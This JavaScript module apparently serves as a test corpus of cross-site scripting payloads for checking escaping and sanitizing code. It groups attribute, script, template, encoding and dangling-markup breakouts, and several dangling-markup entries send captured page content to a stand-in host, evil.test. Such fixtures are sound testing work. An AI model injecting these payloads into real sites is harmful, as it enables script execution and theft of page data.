/** Breakouts from an attribute. */
const ATTRIBUTES = [
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '">\'><svg onload=hit()>',
  '" onmouseover="hit()',
  "' onmouseover='hit()",
  '` onmouseover=`hit()',
  '" autofocus onfocus=hit() x="',
  '"/onclick=hit()//',
  'x onerror=hit()',
  '"\n onerror=hit() "',
  '&quot; onmouseover=&quot;hit()',
  '&#34; onmouseover=&#34;hit()',
  '&#x22;&#x3e;&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;',
  '"style="background:url(//evil.test)"',
]

/** Breakouts from scripts, JSON in scripts and raw text elements. */
const SCRIPTS = [
  '</script><script>hit()</script>',
  '</script ><svg onload=hit()>',
  '</ScRiPt\n><img src=x onerror=hit()>',
  '</script/x><img src=x onerror=hit()>',
  '<!--<script>',
  '<!--<script></script>hit()',
  ']]></script><script>hit()</script>',
  '\u2028hit()//',
  '\u2029hit()//',
  "';hit();//",
  '";hit();//',
  String.raw`\";hit();//`,
  String.raw`\');hit();//`,
  String.raw`\u0022;hit();//`,
  String.raw`</script><script>hit()</script>`,
  '"}};hit();({"a":{"b":"',
  '{"__proto__":{"hit":1}}',
  '*/hit()/*',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</style><script>hit()</script>',
  '</noscript><svg onload=hit()>',
  '</template><img src=x onerror=hit()>',
  '--><script>hit()</script>',
  '--!><img src=x onerror=hit()>',
]

/** Expressions of template engines. */
const TEMPLATES = [
  '${hit()}',
  '`${hit()}`',
  '{{hit()}}',
  "{{constructor.constructor('hit()')()}}",
  "{{$on.constructor('hit()')()}}",
  '#{hit()}',
  '<%= hit() %>',
  '[[${hit()}]]',
  '{%raw%}<script>hit()</script>{%endraw%}',
  "$&$`$'$1",
  '<div v-html="\'<img src=x onerror=hit()>\'" ng-app x-init=hit() hx-on:load=hit()></div>',
]

/** Other encodings of markup. */
const ENCODINGS = [
  '%3Cscript%3Ehit()%3C/script%3E',
  '%253Cscript%253Ehit()%253C/script%253E',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '&#x3c;img src=x onerror=hit()&#x3E;',
  '&#0000060img src=x onerror=hit()&#0000062',
  '&LT;img src=x onerror=hit()&GT;',
  String.raw`\x3cscript\x3ehit()\x3c/script\x3e`,
  String.raw`\u003cscript\u003ehit()\u003c/script\u003e`,
  String.raw`\74script\76hit()\74/script\76`,
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  '\u2039script\u203ahit()\u2039/script\u203a',
  '<\u017fcript>hit()</\u017fcript>',
  '<\u0131mg src=x onerror=hit()>',
  '<scr\u200bipt>hit()</scr\u200bipt>',
  '\ufeff<script>hit()</script>',
  '\u202e<script>hit()</script>',
  '<img src=x onerror&equals;hit()>',
  '<img src=x on&#101;rror=hit()>',
  '<img src=x onerror=&#104;&#105;&#116;&lpar;&rpar;>',
  '<img src=x onerror\u00a0=hit()>',
  '\u{1f1e6}<script\u{e0001}>hit()</script>',
]

/** Unclosed quotes that capture the markup after them. */
const DANGLING = [
  "<img src='//evil.test/?",
  '<a href="//evil.test/?',
  '<a href=//evil.test target="',
  '<form action=//evil.test><textarea name=a>',
  '<button formaction=//evil.test name=a value="',
  "<meta http-equiv=refresh content='0;url=//evil.test/?",
  "<base target='",
  '<link rel=stylesheet href="//evil.test/?',
  '<iframe name="',
  '<!--',
  '<svg><![CDATA[',
  '<style>@import//evil.test?',
]

/** Breakouts from the context that a text is inserted into. */
export const BREAKOUTS = { ATTRIBUTES, SCRIPTS, TEMPLATES, ENCODINGS, DANGLING }
